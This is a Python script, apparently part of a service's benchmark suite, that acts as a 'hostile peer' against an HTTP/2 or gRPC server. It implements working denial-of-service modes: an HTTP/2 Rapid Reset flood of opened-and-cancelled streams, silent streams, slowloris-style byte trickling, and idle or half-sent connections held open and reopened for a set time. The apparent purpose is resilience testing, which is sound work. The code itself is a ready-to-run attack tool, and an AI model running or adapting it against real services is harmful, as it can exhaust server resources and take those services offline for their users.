"""A hostile peer, in a process of its own: HTTP/2 frames made by hand, and silent sockets.

Every mode holds what it can for `--seconds` and opens again what the service closed. One line on
stdout says when the attack is under way, another one how much of it there was.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from contextlib import suppress
from pathlib import Path

from benchmarks.attacks.peers.frames import (
    ACK,
    ASK,
    PING,
    PREFACE,
    SETTINGS,
    call,
    data,
    frame,
    opening,
    reset,
    settings_ack,
)

HALF_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n"
CLOSED = (OSError, asyncio.IncompleteReadError)
STREAMS_A_CONNECTION = 100
REOPEN_SECONDS = 0.2

Work = Callable[["HostilePeer", int], Coroutine[None, None, None]]


class HostilePeer:
    """What all connections of one attack share.

    Args:
        host: of the service.
        port: of the service.
        seconds: how long the attack lasts.
        path: gRPC method that streams are opened for.
        message: sent by `trickle`, a byte at a time.
    """

    def __init__(self, host: str, port: int, seconds: float, path: str, message: bytes) -> None:
        self._address = host, port
        self._ends = time.monotonic() + seconds
        self.path = path
        self.message = message
        self.counts: Counter[str] = Counter()

    async def connected(self, first: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A new connection on which `first` was sent."""
        reader, writer = await asyncio.open_connection(*self._address)
        self.counts["connections"] += 1
        writer.write(first)
        return reader, writer

    async def again(self, work: Work, number: int) -> None:
        """Work until the attack ends, anew when the service closed the connection."""
        while time.monotonic() < self._ends:
            with suppress(*CLOSED):
                await work(self, number)
            await asyncio.sleep(REOPEN_SECONDS)


async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Read and acknowledge settings and pings, as a live HTTP/2 peer does, until the end."""
    while True:
        head = await reader.readexactly(9)
        body = await reader.readexactly(int.from_bytes(head[:3], "big"))
        if head[3] == SETTINGS and not head[4] & ACK:
            writer.write(settings_ack())
        elif head[3] == PING and not head[4] & ACK:
            writer.write(frame(PING, ACK, 0, body))


async def rapid_reset(peer: HostilePeer, number: int) -> None:
    """Streams that are opened and reset at once, as fast as they are taken."""
    reader, writer = await peer.connected(opening())
    reading = asyncio.create_task(drain_input(reader, writer))
    try:
        for start in range(1, 2**31 - 400, 200):
            batch = range(start, start + 200, 2)
            writer.write(b"".join(call(each, peer.path) + reset(each) for each in batch))
            peer.counts["streams"] += len(batch)
            await writer.drain()
            if reading.done():
                return
    finally:
        reading.cancel()
        writer.close()


async def silent_streams(peer: HostilePeer, number: int) -> None:
    """Streams that are opened and say nothing."""
    reader, writer = await peer.connected(opening())
    try:
        for stream in range(1, 2 * STREAMS_A_CONNECTION, 2):
            writer.write(call(stream, peer.path))
            peer.counts["streams"] += 1
        await writer.drain()
        await drain_input(reader, writer)
    finally:
        writer.close()


async def trickle(peer: HostilePeer, number: int) -> None:
    """A stream whose question comes a byte at a time."""
    reader, writer = await peer.connected(opening() + call(1, peer.path))
    reading = asyncio.create_task(drain_input(reader, writer))
    peer.counts["streams"] += 1
    try:
        for byte in peer.message:
            writer.write(data(1, bytes([byte])))
            await asyncio.sleep(0.5)
            if reading.done():
                return
        await reading
    finally:
        reading.cancel()
        writer.close()


def _holding(first: bytes, live: bool = False) -> Work:
    async def hold(peer: HostilePeer, number: int) -> None:
        reader, writer = await peer.connected(first)
        try:
            if live:
                await drain_input(reader, writer)
            while await reader.read(1024):
                pass
        finally:
            writer.close()

    return hold


MODES: dict[str, Work] = {
    "rapid_reset": rapid_reset,
    "silent_streams": silent_streams,
    "trickle": trickle,
    "idle": _holding(b""),
    "preface": _holding(PREFACE),
    "settings": _holding(opening(), live=True),
    "half_head": _holding(HALF_HEAD),
}


async def attack(peer: HostilePeer, work: Work, connections: int) -> None:
    """All connections of the attack, until its time is over."""
    tasks = [asyncio.create_task(peer.again(work, number)) for number in range(connections)]
    await asyncio.sleep(1)
    print("attacking", flush=True)
    await asyncio.sleep(max(0.0, peer._ends - time.monotonic()))
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def main() -> int:
    """Attack; prints what there was of it as JSON."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", choices=MODES)
    parser.add_argument("target", help="host:port")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--path", default=ASK)
    parser.add_argument("--message", type=Path, help="file with a message, for trickle")
    options = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = options.target.rsplit(":", 1)
    message = options.message.read_bytes() if options.message else bytes(4096)
    peer = HostilePeer(host, int(port), options.seconds, options.path, message)
    asyncio.run(attack(peer, MODES[options.mode], options.connections))
    print(json.dumps(peer.counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
